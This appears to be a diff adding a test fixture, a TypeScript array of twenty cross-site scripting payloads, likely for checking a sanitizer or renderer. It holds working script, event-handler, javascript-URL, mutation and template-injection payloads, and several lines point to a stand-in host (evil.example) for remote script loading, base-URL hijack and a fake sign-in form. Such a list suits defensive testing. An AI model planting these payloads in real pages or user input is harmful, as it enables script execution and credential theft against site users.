@@ -1,0 +1,23 @@
+/** Text that does something where a page takes it for markup: each of the well-known ways, once. */
+export const MARKUP: readonly string[] = [
+  '<script>alert(1)</script>',
+  '"><script src=//evil.example/x.js></script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg/onload=alert(1)>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
+  '<a href="javascript:alert(1)">here</a>',
+  '[here](javascript:alert(1))',
+  '![x](x"onerror="alert(1))',
+  '<details open ontoggle=alert(1)>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<input autofocus onfocus=alert(1)>',
+  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
+  '<base href=//evil.example/>',
+  '<form action=//evil.example><button>Sign in</button></form>',
+  '<style>@import "//evil.example/x.css";</style>',
+  '{{constructor.constructor("alert(1)")()}}',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '\u202e<script>alert(1)</script>',
+];
